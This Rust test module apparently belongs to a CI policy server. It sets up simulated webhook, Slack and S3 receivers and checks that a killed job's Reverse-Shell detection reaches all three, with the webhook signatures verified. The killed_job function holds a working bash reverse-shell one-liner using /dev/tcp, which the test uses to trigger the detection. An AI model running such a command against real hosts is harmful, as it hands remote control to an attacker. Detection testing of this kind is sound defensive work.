//! Whom the policy server tells what happened: a webhook, a receiver of the shape of Slack's, and a bucket, all on the world's
//! internet; and a job that gives it something to tell.

use crate::job::{Job, JobResult};
use crate::patience::wait_for;
use crate::policy_server::{ADDRESS, PolicyServer, URL};
use crate::server::http::Response;
use crate::server::object_store::ObjectStore;
use crate::world::World;
use anyhow::{Context, Result, anyhow, ensure};
use aws_lc_rs::hmac;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};
use std::fs;
use std::net::TcpListener;
use std::thread;

/// The host of the webhook.
pub const WEBHOOK_HOST: &str = "hooks.test";

/// The host that takes what is sent to Slack.
pub const SLACK_HOST: &str = "slack.test";

/// Where both are.
const RECEIVERS: &str = "198.51.100.60";

/// The key that the webhook's messages are signed with.
const KEY: &str = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw";

/// The repository of the job that is killed.
pub const LAB: &str = "octo/lab";

/// What a test of an integration says, so that it can be told from what happened.
const TEST: &str = "this is a test";

/// What [`PolicyServer::prepare`] needs for telling them: the bucket is a machine of the world and speaks no TLS.
pub fn configuration() -> String {
    format!(
        "[notifications]\nallowed-networks = [\"{ADDRESS}/32\"]\nallow-http = true\nretry-seconds = [1, 1]\n"
    )
}

/// The receivers of a world.
#[derive(Debug)]
pub struct Receivers<'a> {
    world: &'a World,
    objects: ObjectStore<'a>,
}

/// One detection, as each of them was told.
#[derive(Clone, Debug)]
pub struct Told {
    /// What the webhook got.
    pub webhook: Value,
    /// What Slack got.
    pub slack: Value,
    /// The object in the bucket.
    pub object: Value,
}

impl<'a> Receivers<'a> {
    /// Starts them.
    ///
    /// # Errors
    /// When the bucket's server is not installed or does not start.
    pub fn start(world: &'a World) -> Result<Self> {
        for host in [WEBHOOK_HOST, SLACK_HOST] {
            world.dns().addresses(host, &[RECEIVERS])?;
            world.web().route(host, "/", |_| Response::ok("ok"));
        }
        let objects = ObjectStore::start(world, ADDRESS, "evidence")?;
        Ok(Self { world, objects })
    }

    /// Tells the store of all three: the webhook gets detections and blocked calls, Slack jobs that were killed, the bucket
    /// detections. Each has to take a test.
    ///
    /// # Errors
    /// When one does not.
    pub fn integrate(&self, store: &PolicyServer) -> Result<()> {
        let hook = json!({
            "kind": "webhook", "url": format!("https://{WEBHOOK_HOST}/portcullis"), "secret": KEY,
        });
        let slack =
            json!({ "kind": "slack", "url": format!("https://{SLACK_HOST}/services/T/B/x") });
        let bucket = json!({
            "kind": "s3", "bucket": "evidence", "region": "us-east-1", "endpoint": self.objects.url(), "prefix": "pc",
            "access_key_id": "store", "secret_access_key": "key",
        });
        store.integrate("hook", &hook, &json!({ "blocked_calls": true }))?;
        store.integrate("slack", &slack, &json!({ "lockdown_only": true }))?;
        store.integrate("bucket", &bucket, &json!({}))
    }

    /// What a host got, as JSON, in order; tests left out.
    pub fn told(&self, host: &str) -> Vec<Value> {
        let requests = self.world.web().requests();
        requests
            .iter()
            .filter(|request| request.host == host)
            .filter_map(|request| serde_json::from_slice::<Value>(&request.body).ok())
            .filter(|body| !body.to_string().contains(TEST))
            .collect()
    }

    /// Checks the signature of every message that the webhook got, after the Standard Webhooks text.
    fn check_signatures(&self) -> Result<()> {
        let key = STANDARD.decode(KEY.trim_start_matches("whsec_"))?;
        let key = hmac::Key::new(hmac::HMAC_SHA256, &key);
        let requests = self.world.web().requests();
        let hooks: Vec<_> =
            requests.iter().filter(|request| request.host == WEBHOOK_HOST).collect();
        ensure!(!hooks.is_empty(), "the webhook was told nothing");
        for request in hooks {
            let header = |name: &str| {
                let found = request.headers.iter().find(|(header, _)| header == name);
                found.map(|(_, value)| value.as_str()).with_context(|| format!("no {name}"))
            };
            let (id, time) = (header("webhook-id")?, header("webhook-timestamp")?);
            let signature = header("webhook-signature")?;
            let signature = signature.strip_prefix("v1,").context("another kind of signature")?;
            let signed = [format!("{id}.{time}.").as_bytes(), &request.body].concat();
            hmac::verify(&key, &signed, &STANDARD.decode(signature)?)
                .map_err(|_| anyhow!("the signature of {id} is not that of its body"))?;
        }
        Ok(())
    }

    /// The detection of [`killed_job`], when all three were told of it.
    ///
    /// # Errors
    /// When they are not; the error holds the server's log.
    pub fn detection(&self, store: &PolicyServer) -> Result<Told> {
        let webhook = wait_for("the webhook to be told", || {
            self.told(WEBHOOK_HOST).into_iter().find(|body| body["type"] == "detection.created")
        })
        .with_context(|| store.log())?;
        let slack = wait_for("Slack to be told", || self.told(SLACK_HOST).pop())
            .with_context(|| store.log())?;
        let object = wait_for("the bucket to be told", || {
            let names = self.objects.names().ok()?;
            let texts = names.iter().filter(|name| name.starts_with("pc/notifications/"));
            let mut told = texts.filter_map(|name| self.objects.text(name).ok());
            serde_json::from_str(&told.find(|text| text.contains(LAB))?).ok()
        })
        .with_context(|| store.log())?;
        self.check_signatures()?;
        Ok(Told { webhook, slack, object })
    }
}

/// A job of another repository, under a policy with Lockdown Mode, that opens a reverse shell and is killed for it.
///
/// # Errors
/// When the policy is refused, or the job goes on.
pub fn killed_job(world: &World, store: &PolicyServer, run: u64) -> Result<JobResult> {
    let lab = store.directory().join("lab.yaml");
    fs::write(
        &lab,
        "name: lab\negress-policy: audit\nlockdown-mode: {enabled: true, detections: [Reverse-Shell]}\n",
    )?;
    store.command(&["policy", "apply", &lab.display().to_string()])?;
    store.command(&["attach", "lab", "--repository", LAB])?;
    let peer = world.internet().run(|| TcpListener::bind("0.0.0.0:4445"))??;
    thread::spawn(move || drop(peer.incoming().collect::<Vec<_>>()));
    let script = format!("(bash -i >& /dev/tcp/{ADDRESS}/4445 0>&1) & sleep 5; echo went-on");
    let mut job = Job::script(&script).repository(LAB);
    job.context.run_id = run;
    let result = world.runner(0).run(&job)?;
    ensure!(result.outcome == crate::JobOutcome::Failure, "{}", result.log());
    Ok(result)
}

/// Checks that all three were told the same of [`killed_job`].
///
/// # Errors
/// When something is missing or differs.
pub fn check(told: &Told, run: u64) -> Result<()> {
    let Told { webhook, slack, object } = told;
    let data = &webhook["data"];
    let workflow = format!("{LAB}/.github/workflows/ci.yml");
    for (key, value) in [
        ("detection", "Reverse-Shell"),
        ("repository", LAB),
        ("workflow", &workflow),
        ("cluster", "prod-linux"),
    ] {
        ensure!(data[key] == value, "{key}: {webhook}");
    }
    let job = data["job_id"].as_str().with_context(|| format!("no job: {webhook}"))?;
    ensure!(data["id"].as_str().is_some_and(|id| id.starts_with(job)), "{webhook}");
    ensure!(slack.to_string().contains(&format!("Job id: {job}")), "{slack}");
    ensure!(data["policy"]["name"] == "lab" && data["run_id"] == run, "{webhook}");
    ensure!(
        data["is_lockdown"] == true && data["evidence"].to_string().contains(ADDRESS),
        "{webhook}"
    );
    ensure!(data["process"]["exe"].to_string().contains("bash"), "{webhook}");
    ensure!(data["link"] == format!("{URL}/runs/{run}-1"), "{webhook}");
    let title = format!("Reverse-Shell in job build of {LAB}; the job was killed");
    ensure!(slack["blocks"][0]["text"]["text"] == title, "{slack}");
    ensure!(object["data"] == *data, "{object}");
    Ok(())
}
